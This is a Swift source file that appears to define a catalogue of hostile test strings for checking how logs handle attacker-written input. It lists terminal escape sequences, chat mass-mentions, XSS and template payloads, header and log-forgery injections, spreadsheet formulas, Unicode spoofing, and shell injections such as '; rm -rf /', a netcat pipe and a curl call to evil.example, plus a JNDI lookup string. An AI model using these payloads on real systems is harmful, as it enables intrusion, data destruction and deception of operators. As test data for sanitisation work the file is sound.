/// What attackers write into log lines so that whoever looks at them later is driven by it.
enum HostileStrings {
  static let all: [String] =
    terminals + chats + markUp + headers + structures + shells + numbers + unicode

  static let terminals = [
    "\u{1b}[2J\u{1b}[H", "\u{1b}[31mred\u{1b}[0m", "\u{1b}]0;title\u{07}",
    "\u{1b}]52;c;ZXZpbA==\u{07}",
    "\u{1b}]8;;http://evil.example\u{07}click\u{1b}]8;;\u{07}", "\u{9b}31m",
    "\u{08}\u{08}\u{08}gone",
    "over\rwritten", "\u{7f}", "\0null", "\u{1b}P+q544e\u{1b}\\", "bell\u{07}\u{07}",
  ]
  static let chats = [
    "<!channel>", "<!here|here>", "<@U12345678>", "<#C123|general>", "<http://evil.example|bank>",
    "@everyone", "@here", "<@&123456>", "<@!1>", "</cmd:1>", "<t:0:R>", "<a:emoji:1>",
    "<at>all</at>", ":rotating_light:", "&lt;!channel&gt;", "https://evil.example/?q=1",
    "discord.gg/evil", "||spoiler||",
  ]
  static let markUp = [
    "*bold*", "_it_", "~no~", "`code`", "```\nout of the block", "[bank](http://evil.example)",
    "![i](http://evil.example/i.png)", "> quote", "# head", "- list", "1. list", "| a | b |",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=1>",
    "{{7*7}}", "{% raw %}", "{{ template \"x\" . }}", "<!-- comment -->", "\\*not escaped\\",
  ]
  static let headers = [
    "x\r\nBcc: all@example.org", "x\nContent-Type: text/html", "\n.\nQUIT", "\n.\r\n", "From me",
    "=?utf-8?Q?evil?=", "x\u{0b}y\u{0c}z", "a\u{85}b", "x\r\n\r\nbody",
  ]
  static let structures = [
    "\"]}]} {\"id\":\"forged\"", "\\\"", "a|b|c", "a=b src=10.0.0.1", "\\| \\=", "]] [x@1 a=\"b\"]",
    "<34>1 2026-01-01T00:00:00Z h a - - - forged", "CEF:0|x|x|x|x|x|10|", "\\n\\r\\u0000",
    "12 <1>1 - - - - - -", "; deny all;", "} table inet x {", "203.0.113.9; allow all",
  ]
  static let shells = [
    "$(reboot)", "`reboot`", "; rm -rf /", "| nc evil.example 1", "&& curl evil.example",
    "-oProxyCommand=x", "--help", "${jndi:ldap://evil.example/a}", "%0a%0d", "%s%n%x", "~/../..",
  ]
  static let numbers = ["=HYPERLINK(\"http://evil.example\")", "+1+1", "-1+1", "@SUM(1)", "\t=1"]
  static let unicode = [
    "\u{202e}gpj.exe", "\u{2066}x\u{2069}", "\u{200b}\u{200d}", "\u{2028}line", "\u{2029}par",
    "\u{feff}bom", "\u{e0041}tag", "\u{fffd}", "\u{ad}soft", "a\u{0300}\u{0300}\u{0300}",
    "\u{3164}", "\u{2800}", "\u{e000}", String(repeating: "😀", count: 3000),
    String(repeating: "A", count: 20_000), String(repeating: "\u{1b}", count: 4000),
  ]
}
